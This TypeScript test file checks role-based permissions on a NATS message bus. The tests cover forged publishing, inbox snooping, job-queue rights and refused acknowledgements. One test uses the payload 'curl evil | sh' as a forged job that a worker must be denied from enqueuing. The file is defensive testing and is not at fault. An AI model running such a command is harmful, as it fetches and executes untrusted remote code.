import { connect, errors } from '@nats-io/transport-node';
import { startNatsServer } from '@shiplog/test/nats/natsServer.ts';
import type { NatsServer } from '@shiplog/test/nats/natsServer.ts';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Bus, Consumption } from '../bus.ts';
import type { BusLogger } from '../busLogger.ts';
import { BusError } from '../errors.ts';
import { BusErrorCode } from '../errors.ts';
import { inboxPrefix, natsProducer } from '../identity.ts';
import { natsAccountsConfig } from '../natsAccountsConfig.ts';
import { natsPermissions } from '../natsPermissions.ts';
import type { TopologyOptions } from '../topology.ts';
import { createNatsBus } from './natsBus.ts';
import { natsTestUsers as users } from '../testing/natsTestUsers.ts';

const topology: TopologyOptions = { namespace: 'perm' };
const password = (user: string): string => `${user}-secret`;
const text = (value: string): Uint8Array => new TextEncoder().encode(value);
const read = (value: Uint8Array): string => new TextDecoder().decode(value);
const denied = { code: BusErrorCode.PermissionDenied };

let server: NatsServer;
const buses: Bus[] = [];
beforeAll(async () => {
  // A misconfigured worker: it may pull jobs but not acknowledge them.
  const worker = natsPermissions({ user: 'deaf', role: 'worker' }, topology);
  const deaf = {
    user: 'deaf',
    password: 'deaf-secret',
    permissions: {
      ...worker,
      publish: { allow: worker.publish.allow.filter((s) => !s.startsWith('$JS.ACK')) },
    },
  };
  const config = natsAccountsConfig(
    users.map((entry) => ({ ...entry, password: password(entry.user) })),
    { topology },
  ).replace('    users: [\n', `    users: [\n      ${JSON.stringify(deaf)}\n`);
  server = await startNatsServer({ jetstream: true, config });
  const admin = await as('admin');
  await admin.ensureTopology();
});
afterEach(async () => {
  await Promise.allSettled(buses.splice(0).map((bus) => bus.close()));
});
afterAll(async () => {
  await server?.dispose();
});

async function as(user: string): Promise<Bus> {
  const bus = await createNatsBus({ servers: server.url, user, password: password(user), topology });
  buses.push(bus);
  return bus;
}

/** An ingest stand-in: answers each event with the producer its subject names, and its body. */
async function answeringIngest(handled: string[]): Promise<Consumption> {
  const ingest = await as('ingest');
  await ingest.ensureTopology();
  return await ingest.consume('events', 'ingest', async (message) => {
    const said = `${natsProducer(ingest.topology, message.subject)}:${read(message.data)}`;
    handled.push(said);
    await ingest.answer(
      { msgId: message.msgId ?? '', subject: message.subject, headers: message.headers },
      text(said),
    );
  });
}

async function until(check: () => boolean): Promise<void> {
  const deadline = Date.now() + 10_000;
  while (!check() && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 20));
}

describe('NATS permissions per role', () => {
  it('refuses a client without credentials or with a wrong password', async () => {
    await expect(createNatsBus({ servers: server.url, topology })).rejects.toMatchObject(denied);
    await expect(
      createNatsBus({ servers: server.url, user: 'ci', password: 'guess', topology }),
    ).rejects.toMatchObject(denied);
  });

  it('answers each emitter user on its own subjects, and a retry by another process of that user', async () => {
    const handled: string[] = [];
    const consumption = await answeringIngest(handled);
    const [ci, cd] = [await as('ci'), await as('cd')];
    expect(ci.eventPrefix).toBe('perm.events.ci');
    const first = await ci.requestAnswer(`${ci.eventPrefix}.build.finished`, text('b1'), {
      msgId: 'perm-b1',
      timeoutMs: 10_000,
    });
    expect(read(first.answer)).toBe('nats:ci:b1');
    const theirs = await cd.requestAnswer(`${cd.eventPrefix}.build.finished`, text('b2'), {
      msgId: 'perm-b2',
      timeoutMs: 10_000,
    });
    expect(read(theirs.answer)).toBe('nats:cd:b2');

    // Another process of `ci` re-sends perm-b1: JetStream drops it, the stored answer is read back.
    const again = await as('ci');
    const retry = await again.requestAnswer(`${again.eventPrefix}.build.finished`, text('b1'), {
      msgId: 'perm-b1',
      timeoutMs: 10_000,
    });
    expect(retry.ack.duplicate).toBe(true);
    expect(read(retry.answer)).toBe('nats:ci:b1');
    await consumption.stop();
    expect(handled).toEqual(['nats:ci:b1', 'nats:cd:b2']);
  });

  it('refuses an emitter speaking as another user, and loses nothing of its own', async () => {
    const handled: string[] = [];
    const consumption = await answeringIngest(handled);
    const ci = await as('ci');
    await expect(
      ci.publishEvent('perm.events.cd.artifact.signed', text('forged'), { msgId: 'forged-1' }),
    ).rejects.toMatchObject(denied);
    await expect(
      ci.publishEvent('perm.events._.artifact.signed', text('forged'), { msgId: 'forged-2' }),
    ).rejects.toMatchObject(denied);
    // Waiting for an answer that could never come is refused before anything is sent.
    await expect(
      ci.requestAnswer('perm.events.cd.artifact.signed', text('forged'), {
        msgId: 'forged-3',
        timeoutMs: 60_000,
      }),
    ).rejects.toMatchObject({ code: BusErrorCode.InvalidArgument });
    const admin = await as('admin');
    await expect(
      admin.publishEvent('perm.events.ci.artifact.signed', text('forged'), { msgId: 'forged-4' }),
    ).rejects.toMatchObject(denied);

    const own = await ci.requestAnswer(`${ci.eventPrefix}.service.deployed`, text('d1'), {
      msgId: 'perm-d1',
      timeoutMs: 10_000,
    });
    expect(read(own.answer)).toBe('nats:ci:d1');
    await consumption.stop();
    expect(handled).toEqual(['nats:ci:d1']);
  });

  it("refuses other users a read of an emitter's inbox, answers or stored answers; it gets its own", async () => {
    const handled: string[] = [];
    const consumption = await answeringIngest(handled);
    const snoopers = await Promise.all(
      ['cd', 'worker', 'release'].map((user) =>
        connect({ servers: server.url, user, pass: password(user), inboxPrefix: inboxPrefix(user) }),
      ),
    );
    try {
      const seen: string[] = [];
      const subscriptions = snoopers.flatMap((nc) =>
        ['_INBOX.>', '_INBOX.ci.>', 'perm.answers.>', 'perm.answers.ci.>', '>'].map((subject) =>
          nc.subscribe(subject, {
            callback: (err, msg) => {
              if (err === null) seen.push(msg.subject);
            },
          }),
        ),
      );
      const ci = await as('ci');
      const own = await ci.requestAnswer(`${ci.eventPrefix}.build.finished`, text('s1'), {
        msgId: 'snooped-1',
        timeoutMs: 10_000,
      });
      expect(read(own.answer)).toBe('nats:ci:s1');
      for (const subscription of subscriptions) {
        const open = new Promise((resolve) => setTimeout(() => resolve('still open'), 2_000));
        expect(await Promise.race([subscription.closed, open])).toBeInstanceOf(
          errors.PermissionViolationError,
        );
      }
      const stored = `perm.answers.ci.${Buffer.from('snooped-1').toString('base64url')}.*`;
      await expect(
        snoopers[0]?.request(`$JS.API.DIRECT.GET.perm-answers.${stored}`, new Uint8Array(), {
          timeout: 2_000,
        }),
      ).rejects.toMatchObject({ cause: expect.any(errors.PermissionViolationError) as unknown });
      expect(seen).toEqual([]);
    } finally {
      await Promise.all(snoopers.map((nc) => nc.close()));
      await consumption.stop();
    }
    expect(handled).toEqual(['nats:ci:s1']);
  });

  it('refuses events from a worker, and jobs and topology changes from an emitter', async () => {
    const worker = await as('worker');
    await expect(
      worker.publishEvent('perm.events.worker.build.finished', text('forged'), { msgId: 'forged' }),
    ).rejects.toMatchObject(denied);
    const emitter = await as('ci');
    await expect(emitter.enqueueJob('build', text('x'), { platform: 'linux-x64' })).rejects.toMatchObject(
      denied,
    );
    await expect(emitter.ensureTopology()).rejects.toMatchObject(denied);
    await expect(emitter.reject(text('x'), 'spoofed')).rejects.toMatchObject(denied);
  });

  it('refuses a job from a worker; the release runner issues jobs a worker takes', async () => {
    const worker = await as('worker');
    for (const queue of ['build', 'sign', 'sbom']) {
      await expect(
        worker.enqueueJob(queue, text('{"cmd":"curl evil | sh"}'), {
          platform: 'linux-x64',
          msgId: `forged-${queue}`,
        }),
      ).rejects.toMatchObject(denied);
    }
    const release = await as('release');
    await release.ensureTopology(); // the streams exist: it only looks
    await release.enqueueJob('build', text('job-1'), { platform: 'linux-x64', msgId: 'job-1' });
    expect(await release.queueDepth('build')).toBe(1);
    await expect(
      release.consumeJobs('build', { platform: 'linux-x64' }, () => undefined),
    ).rejects.toMatchObject(denied);

    const done: string[] = [];
    const consumption = await worker.consumeJobs('build', { platform: 'linux-x64' }, (job) => {
      done.push(read(job.data));
    });
    await until(() => done.length > 0);
    await consumption.stop();
    expect(done).toEqual(['job-1']);
  });

  it('lets ingest and workers keep rejected input, only ingest read it, and ingest issue a job', async () => {
    const ingest = await as('ingest');
    await ingest.reject(text('{oops'), 'not JSON');
    await (await as('worker')).reject(text('{"job":'), 'malformed job');
    expect((await ingest.readRejected()).map((entry) => entry.reason)).toEqual(['not JSON', 'malformed job']);
    await ingest.enqueueJob('sbom', text('on behalf of the release runner'), { msgId: 'sbom-1' });
    expect(await ingest.queueDepth('sbom')).toBe(1);
    for (const user of ['worker', 'ci', 'release']) {
      await expect((await as(user)).readRejected()).rejects.toMatchObject(denied);
    }
  });

  it('logs a refused ack and leaves the job queued for redelivery', async () => {
    const release = await as('release');
    await release.enqueueJob('sign', text('sig-1'), { msgId: 'sig-1' });
    const warnings: { fields: Record<string, unknown>; message: string }[] = [];
    const logger: BusLogger = {
      warn: (fields, message) => warnings.push({ fields, message }),
      child: () => logger,
    };
    const deaf = await createNatsBus({
      servers: server.url,
      user: 'deaf',
      password: 'deaf-secret',
      topology,
      logger,
    });
    buses.push(deaf);
    const consumption = await deaf.consumeJobs('sign', { ackWaitMs: 60_000 }, () => undefined);
    await until(() => warnings.length > 0);
    await consumption.stop();
    expect(warnings[0]?.message).toBe('bus ack failed');
    expect(warnings[0]?.fields['err']).toBeInstanceOf(BusError);
    expect((warnings[0]?.fields['err'] as BusError).code).toBe(BusErrorCode.PermissionDenied);
    expect(await release.queueDepth('sign')).toBe(1);
  });
});
